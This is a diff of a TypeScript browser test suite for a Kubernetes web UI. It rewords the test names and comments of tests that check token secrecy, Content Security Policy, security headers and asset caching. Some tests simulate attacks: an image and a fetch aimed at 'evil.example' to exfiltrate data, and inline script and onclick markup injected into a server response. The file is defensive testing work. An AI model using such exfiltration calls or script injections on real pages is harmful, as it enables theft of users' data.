@@ -1,4 +1,4 @@
-/** What a page is made of, and what a script in it could get hold of. */
+/** The page's files and headers, and what a script in the page could reach. */
 import { gunzipSync } from "node:zlib";
 import { request } from "undici";
 import { afterAll, beforeAll, expect, test } from "vitest";
@@ -21,7 +21,7 @@ afterAll(async () => {
 
 const list = `/api/kubernetes/apis/modoki.tsuzu.dev/v1alpha1/namespaces/${team}/applications`;
 
-test("whoever is logged in sees Applications as they come", async () => {
+test("shows Applications live to a logged-in user", async () => {
   const page = await scene.loggedIn(people.alice);
   await page.getByLabel("Namespace", { exact: true }).fill(team);
   await page.keyboard.press("Enter");
@@ -40,7 +40,7 @@ test("whoever is logged in sees Applications as they come", async () => {
   await expect.poll(() => page.title()).toBe("Applications · Denrei");
 });
 
-test("no token ever reaches a browser, from the login to the logout", async () => {
+test("no token reaches the browser between login and logout", async () => {
   const context = await (await scene.browser()).newContext();
   const seen: string[] = [];
   const reading: Promise<void>[] = [];
@@ -50,7 +50,7 @@ test("no token ever reaches a browser, from the login to the logout", async () =
       (async () => {
         const headers = await response.headersArray();
         seen.push(response.url(), ...headers.map(({ name, value }) => `${name}: ${value}`));
-        // A stream has no end to be waited for, and where it leads a redirection says in its headers.
+        // Skips streams, which have no end, and redirects, whose headers are enough.
         const isWhole = !headers.some(({ value }) => value.startsWith("text/event-stream"));
         if (isWhole && response.status() < 300) seen.push(await response.text());
       })().catch(() => undefined),
@@ -80,7 +80,7 @@ test("no token ever reaches a browser, from the login to the logout", async () =
     await Promise.all(reading);
     const secrets = [first, second].flatMap(({ idToken, refreshToken = "" }) => [
       idToken,
-      // Its claims alone, and its signature.
+      // The token's claims alone, and its signature.
       ...idToken.split(".").slice(1),
       refreshToken,
     ]);
@@ -94,7 +94,7 @@ test("no token ever reaches a browser, from the login to the logout", async () =
   }
 });
 
-test("no script runs that is not a file of the page", async () => {
+test("runs only scripts that are files of the page", async () => {
   const page = await scene.loggedIn(people.alice);
   const outcome = await page.evaluate(`(async () => {
     const violated = [];
@@ -109,7 +109,7 @@ test("no script runs that is not a file of the page", async () => {
     image.setAttribute("src", "https://evil.example/?stolen");
     document.body.append(image);
     await fetch("https://evil.example/").catch(() => undefined);
-    // Whoever looks with a debugger may do more, but not in a turn of its own.
+    // With the debugger attached, an awaited evaluation may use eval; a separate task may not.
     await new Promise((resolve) => setTimeout(() => {
       tries.push(attempt(() => { eval("window.ran = 3"); }));
       resolve();
@@ -123,11 +123,11 @@ test("no script runs that is not a file of the page", async () => {
   });
 });
 
-test("a script in the text of a page is refused", async () => {
+test("blocks inline scripts", async () => {
   const context = await (await scene.browser()).newContext();
   try {
     const page = await context.newPage();
-    // As if somebody had got markup into what the server sends.
+    // As if an attacker had injected markup into the server's response.
     await page.route(`${scene.url}/`, async (route) => {
       const answer = await route.fetch();
       const body = `${await answer.text()}<script>window.ran = 1</script><b onclick="window.ran = 2">click</b>`;
@@ -144,7 +144,7 @@ test("a script in the text of a page is refused", async () => {
   }
 });
 
-test("every answer says what a browser is to refuse, and only scripts are answered in JSON", async () => {
+test("every response has the security headers, and only API responses are JSON", async () => {
   const who = await scene.visitor(people.bob);
   const nobody = visitor(scene.url);
   const html = (await nobody.ask("/")).text;
@@ -183,7 +183,7 @@ test("every answer says what a browser is to refuse, and only scripts are answer
   }
 });
 
-test("files of the page are sent compressed to whoever takes that, and can be kept as long as one likes", async () => {
+test("assets are compressed if the client accepts it, and can be cached forever", async () => {
   const html = await (await fetch(scene.url)).text();
   const [, script = ""] = /src="(\/assets\/[^"]+\.js)"/.exec(html) ?? [];
   const sent = async (encoding: string) => {
@@ -199,7 +199,7 @@ test("files of the page are sent compressed to whoever takes that, and can be ke
   expect(packed.bytes.length).toBeLessThan(plain.bytes.length / 2);
 });
 
-test("an address of the page may have a dot in it, and a file that is not there is none", async () => {
+test("a page's path may contain a dot, and a missing asset is a 404", async () => {
   const status = async (path: string) => (await request(`${scene.url}${path}`)).statusCode;
   expect(await status(`/builds/${team}/my.app`)).toBe(200);
   expect(await status("/assets/nothing.js")).toBe(404);
